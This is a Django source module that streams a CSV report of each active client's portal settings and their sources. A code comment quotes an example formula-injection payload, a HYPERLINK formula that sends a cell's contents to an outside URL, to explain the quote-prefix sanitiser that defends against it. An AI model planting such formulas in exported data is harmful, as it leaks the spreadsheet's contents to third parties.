"""The Portal settings report: every active client x every section, with value and source.

One query for the practice defaults and one for the clients (with their group's and their own
settings), whatever the number of clients; rows stream as they are resolved, so memory stays
flat. Resolution is a pure function of (group, group's values, client's values), so the CSV
resolves each distinct combination once: a practice has far fewer combinations than clients.
"""

import csv
import json
from collections.abc import Iterator

from django.utils import timezone

from portal_settings.resolver import (
    BULK_RELATED,
    Sources,
    organization_defaults,
    resolve,
    resolve_loaded,
)
from portal_settings.sections import SECTIONS


def active_clients(*, organization, group=None):
    clients = organization.clients.active()
    if group is not None:
        clients = clients.filter(group=group)
    return clients.order_by("user__last_name", "user__first_name", "pk")


def report_rows(*, organization, clients) -> Iterator[tuple]:
    """(client, EffectiveSettings) for each client of the queryset (the HTML page's rows)."""
    defaults = organization_defaults([organization.pk]).get(organization.pk, {})
    for client in clients.select_related("user", *BULK_RELATED):
        yield client, resolve_loaded(client, defaults)


class _Echo:
    def write(self, value):
        return value


# A spreadsheet runs a cell that starts with one of these as a formula (a name such as
# =HYPERLINK("http://...?d="&B3,"Click") would leak the sheet when clicked). OWASP's rule:
# prefix such a cell with a single quote, so it is shown as the text it is.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value) -> str:
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _row(writer, cells) -> str:
    return writer.writerow([csv_safe(cell) for cell in cells])


def csv_header() -> list[str]:
    header = ["Client", "Email", "Group"]
    for section in SECTIONS:
        header += [section.label, f"{section.label}: source"]
    return header


def csv_lines(*, organization, clients) -> Iterator[str]:
    writer = csv.writer(_Echo())
    yield _row(writer, csv_header())
    defaults = organization_defaults([organization.pk]).get(organization.pk, {})
    rows = clients.values_list(
        "user__last_name",
        "user__first_name",
        "user__email",
        "group_id",
        "group__name",
        "group__portal_settings__values",
        "portal_settings__values",
        "group__portal_settings__schedule",
        "portal_settings__schedule",
    )
    resolved: dict = {}
    now = timezone.now()  # one moment for the whole file, so dated values read consistently
    for (
        last,
        first,
        email,
        group_id,
        group_name,
        group_values,
        own_values,
        group_schedule,
        own_schedule,
    ) in rows.iterator(chunk_size=2000):
        key = (
            group_id,
            tuple(sorted((group_values or {}).items())),
            tuple(sorted((own_values or {}).items())),
            json.dumps(group_schedule or {}, sort_keys=True) if group_schedule else "",
            json.dumps(own_schedule or {}, sort_keys=True) if own_schedule else "",
        )
        cells = resolved.get(key)
        if cells is None:
            effective = resolve(
                Sources(
                    organization=defaults,
                    group=(group_values or {}) if group_id else None,
                    group_name=group_name or "",
                    client=own_values or {},
                    group_schedule=(group_schedule or {}) if group_id else None,
                    client_schedule=own_schedule or {},
                    now=now,
                )
            )
            cells = resolved[key] = [
                value for r in effective.values() for value in (r.access.value, r.label)
            ]
        yield _row(writer, [f"{last}, {first}", email, group_name or "", *cells])
